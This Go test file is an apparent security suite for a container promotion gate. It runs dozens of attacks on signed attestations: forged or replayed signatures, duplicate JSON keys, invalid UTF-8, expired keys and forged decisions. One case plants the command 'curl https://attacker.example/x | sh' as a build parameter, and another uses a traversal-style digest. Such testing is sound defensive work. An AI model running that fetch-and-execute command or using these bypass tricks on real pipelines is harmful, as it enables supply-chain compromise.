package attack_test

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/custody-dev/custody/pkg/attestation"
	"github.com/custody-dev/custody/pkg/blob"
	"github.com/custody-dev/custody/pkg/oci/ocitest"
	"github.com/custody-dev/custody/pkg/policy"
	"github.com/custody-dev/custody/pkg/signing"
	"github.com/custody-dev/custody/pkg/vuln"
	eventsv1 "github.com/custody-dev/custody/proto/custody/events/v1"
)

const (
	inToto     = signing.PayloadTypeInToto
	provType   = attestation.PredicateSLSAProvenanceV1
	bomType    = attestation.PredicateCycloneDX
	vulnsType  = attestation.PredicateVulnsV02
	evilBuilds = "urn:custody:builder:attacker"
)

// expect is what a case's denial must say.
type expect struct {
	// reasons must each appear in the decision's reasons (gate attacks) or in the
	// promoter's error (promoter attacks).
	reasons []string
	// requirement names a requirement of the decision whose outcome code must be code.
	requirement, code string
}

type attackCase struct {
	name string
	// gate lists the case's evidence and returns the promotion request to publish.
	gate func(c *caseEnv) *eventsv1.PromotionRequested
	// forge returns a promotion decision to publish straight on the bus.
	forge func(c *caseEnv) *eventsv1.PromotionDecided
	want  expect
}

// unusable are the reasons of an envelope the gate rejected, which leaves a
// requirement missing until the evidence wait ends.
func unusable(reasons ...string) []string {
	return append([]string{"evidence wait of 300ms ended with requirements unmet"}, reasons...)
}

// noSignature is verify's reason for an envelope no trusted key, valid at the recorded
// time, signed.
const noSignature = "no valid signature from a trusted key (key validity windows checked at"

func attackCases() []attackCase {
	withProvenance := func(edit func(c *caseEnv) []byte) func(c *caseEnv) *eventsv1.PromotionRequested {
		return func(c *caseEnv) *eventsv1.PromotionRequested {
			c.good(kindProvenance)
			c.attest(edit(c), provType)
			return c.request()
		}
	}
	signedProvenance := func(signer func(c *caseEnv) *signing.Signer, edit func(*eventsv1.BuildCompleted)) func(c *caseEnv) []byte {
		return func(c *caseEnv) []byte { return c.sign(signer(c), inToto, c.provenance(edit)) }
	}
	attestor := func(c *caseEnv) *signing.Signer { return c.attestor }
	// toProd2 makes the request go to prod2, whose provenance needs two distinct keys.
	toProd2 := func(list func(c *caseEnv, st []byte)) func(c *caseEnv) *eventsv1.PromotionRequested {
		return func(c *caseEnv) *eventsv1.PromotionRequested {
			c.dest = c.hostA + "/prod2/" + c.name + ":v1"
			list(c, c.provenance(nil))
			return c.request()
		}
	}
	thresholdUnmet := expect{reasons: unusable("only 1 of the 2 distinct keys required"), requirement: "provenance", code: policy.CodeThresholdUnmet}
	missingProvenance := func(reasons ...string) expect {
		return expect{reasons: unusable(reasons...), requirement: "provenance-builder", code: policy.CodeMissing}
	}
	invocation := func(c *caseEnv) string { return `"invocationId":"run-` + c.name + `"` }

	return []attackCase{
		// --- DSSE envelopes and signatures ---
		{
			name: "signature-over-another-payload",
			gate: withProvenance(func(c *caseEnv) []byte {
				// The attestor's genuine signature over the provenance of an attacker's
				// build, under the payload of a good one.
				sig := c.sig(c.attestor, inToto, c.provenance(func(b *eventsv1.BuildCompleted) { b.BuilderId = evilBuilds }))
				return c.envelope(c.provenance(nil), sig)
			}),
			want: missingProvenance(noSignature),
		},
		{
			name: "payloadtype-confusion-application-json",
			gate: withProvenance(func(c *caseEnv) []byte { return c.sign(c.attestor, "application/json", c.provenance(nil)) }),
			want: missingProvenance(`payloadType "application/json"`, "wrong payload type"),
		},
		{
			name: "payloadtype-case-variant",
			gate: withProvenance(func(c *caseEnv) []byte {
				return c.sign(c.attestor, "application/vnd.in-toto+JSON", c.provenance(nil))
			}),
			want: missingProvenance(`payloadType "application/vnd.in-toto+JSON"`, "wrong payload type"),
		},
		{
			name: "subject-digest-mismatch",
			gate: withProvenance(func(c *caseEnv) []byte {
				other := c.img.Context().Digest("sha256:" + strings.Repeat("e", 64))
				return c.sign(c.attestor, inToto, c.build(other, nil))
			}),
			want: missingProvenance("statement subject does not name the artifact"),
		},
		{
			name: "attestation-replayed-from-another-image",
			gate: withProvenance(func(c *caseEnv) []byte {
				// Image B's genuine, good provenance, listed for image A.
				b := ocitest.PushRandomImage(c.t, c.hostA+"/staging/"+c.name+"-b")
				return c.sign(c.attestor, inToto, c.build(b, nil))
			}),
			want: missingProvenance("statement subject does not name the artifact"),
		},
		{
			name: "expired-key",
			gate: withProvenance(signedProvenance(func(c *caseEnv) *signing.Signer { return c.expiring }, nil)),
			want: missingProvenance(noSignature),
		},
		{
			name: "not-yet-valid-key",
			gate: withProvenance(signedProvenance(func(c *caseEnv) *signing.Signer { return c.notYet }, nil)),
			want: missingProvenance(noSignature),
		},
		{
			name: "removed-key",
			gate: withProvenance(signedProvenance(func(c *caseEnv) *signing.Signer { return c.retired }, nil)),
			want: missingProvenance(noSignature),
		},
		{
			name: "trusted-key-outside-the-policy-authority",
			gate: withProvenance(signedProvenance(func(c *caseEnv) *signing.Signer { return c.second }, nil)),
			want: expect{reasons: unusable("1 signed only by keys outside the policy's authorities"), requirement: "provenance-builder", code: policy.CodeUnauthorizedSigner},
		},
		{
			// A key whose trust starts tomorrow, with the envelope "recorded" after that.
			name: "recorded-time-in-the-future-activates-a-not-yet-valid-key",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindProvenance)
				env := c.sign(c.notYet, inToto, c.provenance(nil))
				c.listFor(c.digest, c.put(env), provType, c.start.Add(25*time.Hour))
				return c.request()
			},
			want: missingProvenance(),
		},
		{
			// A scan signed with the expired key, its recorded time moved back into
			// the key's window; it claims to be fresh, which the recorded time belies.
			name: "recorded-time-backdated-into-an-expired-key-window-fresh-claim",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindVulns)
				env := c.sign(c.expiring, inToto, c.vulns(time.Now().Add(-time.Minute)))
				c.listFor(c.digest, c.put(env), vulnsType, c.start.Add(-25*time.Hour))
				return c.request()
			},
			want: expect{reasons: []string{"after its signing time"}, requirement: "vulns", code: policy.CodeFutureTimestamp},
		},
		{
			// The same, claiming the old time: maxAge refuses it.
			name: "recorded-time-backdated-into-an-expired-key-window-old-claim",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindVulns)
				env := c.sign(c.expiring, inToto, c.vulns(c.start.Add(-25*time.Hour-10*time.Minute)))
				c.listFor(c.digest, c.put(env), vulnsType, c.start.Add(-25*time.Hour))
				return c.request()
			},
			want: expect{reasons: unusable("older than maxAge 24h0m0s"), requirement: "vulns", code: policy.CodeTooOld},
		},
		{
			name: "threshold-one-key-twice-in-one-envelope",
			gate: toProd2(func(c *caseEnv, st []byte) {
				c.attest(c.envelope(st, c.sig(c.attestor, inToto, st), c.sig(c.attestor, inToto, st)), provType)
			}),
			want: thresholdUnmet,
		},
		{
			name: "threshold-one-key-on-two-envelopes",
			gate: toProd2(func(c *caseEnv, st []byte) {
				a := c.attest(c.sign(c.attestor, inToto, st), provType)
				if b := c.attest(c.sign(c.attestor, inToto, st), provType); a == b {
					c.t.Fatal("the two envelopes are the same bytes")
				}
			}),
			want: thresholdUnmet,
		},
		{
			name: "threshold-untrusted-key-on-the-second-signature",
			gate: toProd2(func(c *caseEnv, st []byte) {
				c.attest(c.envelope(st, c.sig(c.attestor, inToto, st), c.sig(c.stranger, inToto, st)), provType)
			}),
			want: thresholdUnmet,
		},
		{
			name: "malformed-json-envelope",
			gate: withProvenance(func(c *caseEnv) []byte {
				env := c.sign(c.attestor, inToto, c.provenance(nil))
				return append(env[:len(env)-1], []byte(",}")...)
			}),
			want: missingProvenance("envelope is not JSON", "malformed envelope"),
		},
		{
			name: "duplicate-keys-in-the-envelope",
			gate: withProvenance(func(c *caseEnv) []byte {
				// Parsers that keep the first "payload" read the attacker's statement;
				// encoding/json keeps the last, which the signature covers.
				good := c.provenance(nil)
				env := c.envelope(good, c.sig(c.attestor, inToto, good))
				evil := c.provenance(func(b *eventsv1.BuildCompleted) { b.BuilderId = evilBuilds })
				return c.replace(env, `"payload":`, `"payload":"`+b64(evil)+`","payload":`)
			}),
			want: missingProvenance(`envelope has the key "payload" twice`),
		},
		{
			name: "envelope-key-differing-only-by-case",
			gate: withProvenance(func(c *caseEnv) []byte {
				good := c.provenance(nil)
				env := c.envelope(good, c.sig(c.attestor, inToto, good))
				evil := c.provenance(func(b *eventsv1.BuildCompleted) { b.BuilderId = evilBuilds })
				return c.replace(env, `"signatures":`, `"Payload":"`+b64(evil)+`","signatures":`)
			}),
			want: missingProvenance(`key "Payload" at the top level differs from the DSSE field "payload"`),
		},
		{
			name: "duplicate-keys-in-the-statement",
			gate: withProvenance(func(c *caseEnv) []byte {
				st := c.replace(c.provenance(nil), `"predicateType":`, `"predicateType":"`+bomType+`","predicateType":`)
				return c.sign(c.attestor, inToto, st)
			}),
			want: missingProvenance(`statement has the key "predicateType" twice`),
		},
		{
			name: "protobuf-field-name-in-the-statement",
			gate: withProvenance(func(c *caseEnv) []byte {
				return c.sign(c.attestor, inToto, c.replace(c.provenance(nil), `"predicateType":`, `"predicate_type":`))
			}),
			want: missingProvenance(`"predicate_type" at the top level is protobuf's name for "predicateType"`),
		},
		{
			name: "invalid-utf8-in-the-envelope",
			gate: withProvenance(func(c *caseEnv) []byte {
				good := c.provenance(nil)
				return c.replace(c.envelope(good, c.sig(c.attestor, inToto, good)), `{"sig":`, "{\"keyid\":\"\xff\",\"sig\":")
			}),
			want: missingProvenance("envelope is not valid UTF-8"),
		},
		{
			name: "invalid-utf8-in-the-statement",
			gate: withProvenance(func(c *caseEnv) []byte {
				return c.sign(c.attestor, inToto, c.replace(c.provenance(nil), invocation(c), "\"invocationId\":\"run-\xff\xfe\""))
			}),
			want: missingProvenance("statement is not valid UTF-8"),
		},
		{
			name: "lone-surrogate-in-the-statement",
			gate: withProvenance(func(c *caseEnv) []byte {
				return c.sign(c.attestor, inToto, c.replace(c.provenance(nil), invocation(c), `"invocationId":"run-\ud800"`))
			}),
			want: missingProvenance("escapes a lone UTF-16 surrogate"),
		},
		{
			name: "seventeen-signatures",
			gate: withProvenance(func(c *caseEnv) []byte {
				st := c.provenance(nil)
				var sigs []string
				for range 17 {
					sigs = append(sigs, c.sig(c.attestor, inToto, st))
				}
				return c.envelope(st, sigs...)
			}),
			want: missingProvenance("envelope has 17 signatures, more than the 16 checked"),
		},
		{
			name: "envelope-without-signatures",
			gate: withProvenance(func(c *caseEnv) []byte { return c.envelope(c.provenance(nil)) }),
			want: missingProvenance("envelope has no signatures"),
		},
		{
			name: "oversized-envelope",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindSBOM)
				st, err := attestation.SBOM(c.img.String(), c.digest, sbomDoc(c.t, maxEnvelope, "MIT"))
				if err != nil {
					c.t.Fatal(err)
				}
				c.attest(c.sign(c.attestor, inToto, st), bomType)
				return c.request()
			},
			want: expect{reasons: unusable("exceeds 262144"), requirement: "sbom", code: policy.CodeMissing},
		},

		// --- the evidence listing ---
		{
			name: "required-type-missing-while-others-exist",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindSecrets)
				return c.request()
			},
			want: expect{reasons: unusable("secrets: no verified attestation of type " + attestation.PredicateSecretsV1), requirement: "secrets", code: policy.CodeMissing},
		},
		{
			name: "evidence-missing-from-the-blob-store",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindProvenance)
				env := c.sign(c.attestor, inToto, c.provenance(nil))
				c.listFor(c.digest, blob.Digest(env), provType, recorded())
				return c.request()
			},
			want: missingProvenance("unavailable: fetch: blob sha256:", "blob not found"),
		},
		{
			name: "evidence-listed-without-recorded-time",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindProvenance)
				c.listFor(c.digest, c.put(c.sign(c.attestor, inToto, c.provenance(nil))), provType, time.Time{})
				return c.request()
			},
			want: missingProvenance("the evidence source gave no recorded time"),
		},
		{
			name: "evidence-listed-under-a-malformed-digest",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindProvenance)
				c.listFor(c.digest, "sha256:../../"+strings.Repeat("A", 64), provType, recorded())
				return c.request()
			},
			want: missingProvenance("not a sha256:<hex> digest"),
		},

		// --- content and policy ---
		{
			name: "cyclonedx-type-with-provenance-content",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindSBOM)
				st := c.editStatement(c.provenance(nil), func(m map[string]any) { m["predicateType"] = bomType })
				c.attest(c.sign(c.attestor, inToto, st), bomType)
				return c.request()
			},
			want: expect{reasons: []string{"does not match its predicate type " + bomType}, requirement: "sbom", code: policy.CodeContentMismatch},
		},
		{
			name: "provenance-type-with-bom-content",
			gate: withProvenance(func(c *caseEnv) []byte {
				st := c.editStatement(c.sbom("MIT"), func(m map[string]any) { m["predicateType"] = provType })
				return c.sign(c.attestor, inToto, st)
			}),
			want: expect{reasons: []string{"does not match its predicate type " + provType}, requirement: "provenance-builder", code: policy.CodeContentMismatch},
		},
		{
			name: "untrusted-builder",
			gate: withProvenance(signedProvenance(attestor, func(b *eventsv1.BuildCompleted) { b.BuilderId = evilBuilds })),
			want: expect{reasons: []string{"provenance-builder: condition false"}, requirement: "provenance-builder", code: policy.CodeConditionFalse},
		},
		{
			name: "forked-source-repository",
			gate: withProvenance(signedProvenance(attestor, func(b *eventsv1.BuildCompleted) { b.SourceRepository = forkRepo })),
			want: expect{reasons: []string{"provenance-source: condition false"}, requirement: "provenance-source", code: policy.CodeConditionFalse},
		},
		{
			name: "external-parameter-outside-the-allow-list",
			gate: withProvenance(func(c *caseEnv) []byte {
				st := c.editStatement(c.provenance(nil), func(m map[string]any) {
					params(c, m)["script"] = "curl https://attacker.example/x | sh"
				})
				return c.sign(c.attestor, inToto, st)
			}),
			want: expect{reasons: []string{"provenance-params: condition false"}, requirement: "provenance-params", code: policy.CodeConditionFalse},
		},
		{
			name: "build-type-not-allowed",
			gate: withProvenance(signedProvenance(attestor, func(b *eventsv1.BuildCompleted) {
				b.BuildType = "https://attacker.example/buildtypes/anything/v1"
			})),
			want: expect{reasons: []string{"provenance-buildtype: condition false"}, requirement: "provenance-buildtype", code: policy.CodeConditionFalse},
		},
		{
			// Without a source repository, the source condition indexes a missing key.
			name: "cel-runtime-error",
			gate: withProvenance(func(c *caseEnv) []byte {
				st := c.editStatement(c.provenance(nil), func(m map[string]any) {
					src, ok := params(c, m)["source"].(map[string]any)
					if !ok {
						c.t.Fatal("provenance has no source parameter")
					}
					delete(src, "repository")
				})
				return c.sign(c.attestor, inToto, st)
			}),
			want: expect{reasons: []string{"no such key: repository"}, requirement: "provenance-source", code: policy.CodeConditionError},
		},
		{
			name: "timestamps-in-the-future",
			gate: withProvenance(signedProvenance(attestor, func(b *eventsv1.BuildCompleted) {
				b.StartedAt = timestamppb.New(time.Now().Add(47 * time.Hour))
				b.FinishedAt = timestamppb.New(time.Now().Add(48 * time.Hour))
			})),
			want: expect{reasons: []string{"claims runDetails.metadata.finishedOn", "after its signing time"}, requirement: "provenance-builder", code: policy.CodeFutureTimestamp},
		},
		{
			name: "stale-vulnerability-scan",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindVulns)
				c.attest(c.sign(c.attestor, inToto, c.vulns(time.Now().Add(-48*time.Hour))), vulnsType)
				return c.request()
			},
			want: expect{reasons: unusable("older than maxAge 24h0m0s"), requirement: "vulns", code: policy.CodeTooOld},
		},
		{
			name: "critical-vulnerability",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindVulns)
				c.attest(c.sign(c.attestor, inToto, c.vulns(time.Now().Add(-time.Minute), finding("CVE-2025-9999", vuln.RatingCritical, 9.8))), vulnsType)
				return c.request()
			},
			want: expect{reasons: []string{"vulns: condition false"}, requirement: "vulns", code: policy.CodeConditionFalse},
		},
		{
			name: "expired-waiver-not-honoured",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindVulns)
				c.attest(c.sign(c.attestor, inToto, c.vulns(time.Now().Add(-time.Minute), finding(expiredCVE, vuln.RatingCritical, 9.8))), vulnsType)
				return c.request()
			},
			want: expect{reasons: []string{"vulns: condition false", "waiver of " + expiredCVE + " (owner security@example.com) expired at"}, requirement: "vulns", code: policy.CodeConditionFalse},
		},
		{
			name: "secret-found",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindSecrets)
				c.attest(c.sign(c.attestor, inToto, c.secretsScan("/app/.env")), attestation.PredicateSecretsV1)
				return c.request()
			},
			want: expect{reasons: []string{"secrets: condition false"}, requirement: "secrets", code: policy.CodeConditionFalse},
		},
		{
			name: "agpl-license",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good(kindSBOM)
				c.attest(c.sign(c.attestor, inToto, c.sbom("MIT", "AGPL-3.0-only")), bomType)
				return c.request()
			},
			want: expect{reasons: []string{"sbom: condition false"}, requirement: "sbom", code: policy.CodeConditionFalse},
		},

		// --- the request ---
		{
			name: "image-digest-differs-from-the-request-digest",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good()
				req := c.request()
				req.Image = ocitest.PushRandomImage(c.t, c.hostA+"/staging/"+c.name+"-b").String()
				return req
			},
			want: expect{reasons: []string{"is not pinned by digest sha256:"}},
		},
		{
			name: "destination-no-policy-governs",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good()
				req := c.request()
				req.Destination = c.hostA + "/elsewhere/" + c.name + ":v1"
				return req
			},
			want: expect{reasons: []string{"no policy governs the destination"}},
		},
		{
			name: "image-given-by-tag",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good()
				req := c.request()
				req.Image = c.img.Context().Tag("latest").String()
				return req
			},
			want: expect{reasons: []string{"not pinned by a sha256 digest"}},
		},
		{
			name: "event-subject-differs-from-the-digest",
			gate: func(c *caseEnv) *eventsv1.PromotionRequested {
				c.good()
				c.subject = "sha256:" + strings.Repeat("d", 64)
				return c.request()
			},
			want: expect{reasons: []string{"does not match digest"}},
		},

		// --- forged decisions ---
		{
			name:  "forged-decision-without-vsa",
			forge: func(c *caseEnv) *eventsv1.PromotionDecided { return c.forgedAllowance() },
			want:  expect{reasons: []string{"carries no signed VSA"}},
		},
		{
			name: "forged-decision-with-vsa-signed-by-the-attestor-key",
			forge: func(c *caseEnv) *eventsv1.PromotionDecided {
				d := c.forgedAllowance()
				d.Vsa = c.vsa(c.attestor, d)
				return d
			},
			want: expect{reasons: []string{"is not signed by a trusted decision key"}},
		},
		{
			name: "genuine-vsa-replayed-for-another-destination",
			forge: func(c *caseEnv) *eventsv1.PromotionDecided {
				d := proto.Clone(c.genuine(eventsv1.Decision_DECISION_ALLOWED, nil)).(*eventsv1.PromotionDecided)
				d.Destination = c.dest2
				return d
			},
			want: expect{reasons: []string{"allows destination"}},
		},
		{
			name: "genuine-vsa-replayed-for-another-image",
			forge: func(c *caseEnv) *eventsv1.PromotionDecided {
				d := proto.Clone(c.genuine(eventsv1.Decision_DECISION_ALLOWED, nil)).(*eventsv1.PromotionDecided)
				other := ocitest.PushRandomImage(c.t, c.hostA+"/staging/"+c.name+"-b")
				d.Image, d.Digest, d.Destination = other.String(), other.DigestStr(), c.dest2
				return d
			},
			want: expect{reasons: []string{"is not signed by a trusted decision key", "statement subject does not name the artifact"}},
		},
		{
			name: "genuine-failed-vsa-flipped-to-allowed",
			forge: func(c *caseEnv) *eventsv1.PromotionDecided {
				var listed []string
				d := proto.Clone(c.genuine(eventsv1.Decision_DECISION_DENIED, func() {
					listed = values(c.good(kindProvenance))
					listed = append(listed, c.attest(c.sign(c.attestor, inToto, c.provenance(func(b *eventsv1.BuildCompleted) { b.BuilderId = evilBuilds })), provType))
				})).(*eventsv1.PromotionDecided)
				if d.GetVsa().GetDigest() == "" {
					c.t.Fatal("harness: the gate's denial carries no VSA")
				}
				d.Decision, d.AttestationDigests, d.Reasons = eventsv1.Decision_DECISION_ALLOWED, listed, []string{"flipped"}
				return d
			},
			want: expect{reasons: []string{"records a FAILED verification"}},
		},
	}
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// params returns the provenance statement's externalParameters object.
func params(c *caseEnv, statement map[string]any) map[string]any {
	c.t.Helper()
	pred, _ := statement["predicate"].(map[string]any)
	def, _ := pred["buildDefinition"].(map[string]any)
	p, ok := def["externalParameters"].(map[string]any)
	if !ok {
		c.t.Fatal("provenance has no externalParameters object")
	}
	return p
}

// TestAttackSuite runs every attack through the real gate and promoter, then the happy
// paths that show the same harness allows what it should.
func TestAttackSuite(t *testing.T) {
	start := time.Now()
	s := newSuite(t)
	cases := attackCases()
	if len(cases) < 30 {
		t.Fatalf("only %d attack cases", len(cases))
	}
	t.Run("attack", func(t *testing.T) {
		seen := map[string]bool{}
		for _, tc := range cases {
			if seen[tc.name] || (tc.gate == nil) == (tc.forge == nil) {
				t.Fatalf("case %q: duplicate, or not exactly one of gate and forge", tc.name)
			}
			seen[tc.name] = true
			t.Run(tc.name, func(t *testing.T) {
				t.Parallel()
				if tc.gate != nil {
					runGateAttack(t, s, tc)
				} else {
					runPromoterAttack(t, s, tc)
				}
			})
		}
		t.Run("tag-moved-between-verification-and-copy", func(t *testing.T) {
			t.Parallel()
			tagMovedAfterDecision(t, s)
		})
	})
	t.Run("happy", func(t *testing.T) {
		t.Run("single-platform-same-registry", func(t *testing.T) { t.Parallel(); happySinglePlatform(t, s) })
		t.Run("multi-platform-index", func(t *testing.T) { t.Parallel(); happyIndex(t, s) })
		t.Run("cross-registry", func(t *testing.T) { t.Parallel(); happyCrossRegistry(t, s) })
		t.Run("threshold-two-distinct-keys", func(t *testing.T) { t.Parallel(); happyThreshold(t, s) })
		t.Run("live-waiver-honoured", func(t *testing.T) { t.Parallel(); happyLiveWaiver(t, s) })
		t.Run("monotone-removing-the-satisfying-attestation-denies", func(t *testing.T) { t.Parallel(); monotone(t, s) })
	})

	// Once everything has run, nothing an attack aimed at has been written since.
	time.Sleep(500 * time.Millisecond)
	s.mu.Lock()
	denials := append([]untouched(nil), s.denials...)
	s.mu.Unlock()
	for _, u := range denials {
		s.assertUntouched(t, u.destination, u.digests...)
		if s.obs.completedTo(u.requestID, u.destination) {
			t.Errorf("SECURITY: %s: the promotion to %s completed", u.name, u.destination)
		}
	}
	t.Logf("%d attacks and the happy paths ran in %s", len(cases)+1, time.Since(start).Round(time.Millisecond))
}

func runGateAttack(t *testing.T, s *suite, tc attackCase) {
	c := s.newCase(t, tc.name)
	req := tc.gate(c)
	c.publishRequest(req)
	d := s.obs.decision(t, req.GetRequestId())
	digests := []string{req.GetDigest(), c.digest}
	if img, err := name.NewDigest(req.GetImage()); err == nil {
		digests = append(digests, img.DigestStr())
	}
	slices.Sort(digests)
	digests = slices.Compact(digests)
	s.remember(untouched{name: tc.name, requestID: req.GetRequestId(), destination: req.GetDestination(), digests: digests})

	if d.GetDecision() != eventsv1.Decision_DECISION_DENIED {
		t.Errorf("SECURITY: the gate decided %s; reasons %q", d.GetDecision(), d.GetReasons())
	}
	all := strings.Join(d.GetReasons(), "\n")
	for _, r := range tc.want.reasons {
		if !strings.Contains(all, r) {
			t.Errorf("the reasons do not say %q:\n%s", r, all)
		}
	}
	if tc.want.requirement != "" {
		var got *eventsv1.RequirementOutcome
		for _, r := range d.GetRequirements() {
			if r.GetName() == tc.want.requirement {
				got = r
			}
		}
		switch {
		case got == nil:
			t.Errorf("no outcome for requirement %s: %q", tc.want.requirement, all)
		case got.GetCode() != tc.want.code:
			t.Errorf("requirement %s: code %s, want %s (%s)", tc.want.requirement, got.GetCode(), tc.want.code, got.GetReason())
		}
	}
	if len(d.GetAttestationDigests()) != 0 {
		t.Errorf("the denial lists attestations %v", d.GetAttestationDigests())
	}
	// Every denial of a well-formed digest is signed too, and says FAILED.
	if vsa := s.parseVSA(t, d); vsa != nil && vsa.Passed {
		t.Errorf("SECURITY: the denial's VSA says PASSED")
	}
	s.assertUntouched(t, req.GetDestination(), digests...)
}

func runPromoterAttack(t *testing.T, s *suite, tc attackCase) {
	c := s.newCase(t, tc.name)
	d := tc.forge(c)
	c.publishDecision(d)
	done, failed := s.obs.outcome(t, d.GetRequestId(), d.GetDestination())
	digests := slices.Compact(slices.Sorted(slices.Values([]string{d.GetDigest(), c.digest})))
	s.remember(untouched{name: tc.name, requestID: d.GetRequestId(), destination: d.GetDestination(), digests: digests})
	if done != nil {
		t.Errorf("SECURITY: the forged decision was carried out: %v", done)
	} else {
		for _, r := range tc.want.reasons {
			if !strings.Contains(failed.GetError(), r) {
				t.Errorf("the promoter's error does not say %q: %s", r, failed.GetError())
			}
		}
		if !strings.Contains(failed.GetError(), "promotion refused") {
			t.Errorf("the failure is not a refusal: %s", failed.GetError())
		}
	}
	s.assertUntouched(t, d.GetDestination(), digests...)
}

// tagMovedAfterDecision requests the promotion of the image a staging tag names, pinned
// by digest as ingest pins it; between the decisions and the copy (when the promoter
// first fetches the source manifest) the tag moves to another image. The destination
// must hold the verified digest only.
func tagMovedAfterDecision(t *testing.T, s *suite) {
	c := s.newCase(t, "tag-moved-between-verification-and-copy")
	repo := c.img.Context()
	verified, err := remote.Get(c.img)
	if err != nil {
		t.Fatal(err)
	}
	other := ocitest.PushRandomImage(t, repo.String())
	swapped, err := remote.Get(other)
	if err != nil {
		t.Fatal(err)
	}
	tag := repo.Tag("latest")
	if err := remote.Tag(tag, verified); err != nil {
		t.Fatal(err)
	}
	moved := make(chan error, 1)
	s.hooks.beforeGet("/v2/"+repo.RepositoryStr()+"/manifests/"+c.digest, func() { moved <- remote.Tag(tag, swapped) })

	c.good()
	c.publishRequest(c.request())
	if d := s.obs.decision(t, c.requestID); d.GetDecision() != eventsv1.Decision_DECISION_ALLOWED {
		t.Fatalf("harness: the gate denied the verified image: %q", d.GetReasons())
	}
	done, failed := s.obs.outcome(t, c.requestID, c.dest)
	if done == nil {
		t.Fatalf("harness: the promotion failed: %s", failed.GetError())
	}
	select {
	case err := <-moved:
		if err != nil {
			t.Fatalf("move the tag: %v", err)
		}
	default:
		t.Fatal("the tag was not moved before the copy: the promoter never fetched the source manifest by digest")
	}
	if head, err := remote.Head(tag); err != nil || head.Digest.String() != other.DigestStr() {
		t.Fatalf("staging tag after the move: %v %v", head, err)
	}
	dst, _ := name.NewTag(c.dest)
	head, err := remote.Head(dst)
	if err != nil {
		t.Fatal(err)
	}
	if head.Digest.String() != c.digest {
		t.Errorf("SECURITY: the destination tag names %s, not the verified %s", head.Digest, c.digest)
	}
	if done.GetDestinationImage() != dst.Context().Digest(c.digest).String() {
		t.Errorf("completed at %s", done.GetDestinationImage())
	}
	if _, err := remote.Head(dst.Context().Digest(other.DigestStr())); err == nil {
		t.Errorf("SECURITY: the image the tag moved to reached the destination")
	} else if !notFound(err) {
		t.Error(err)
	}
}
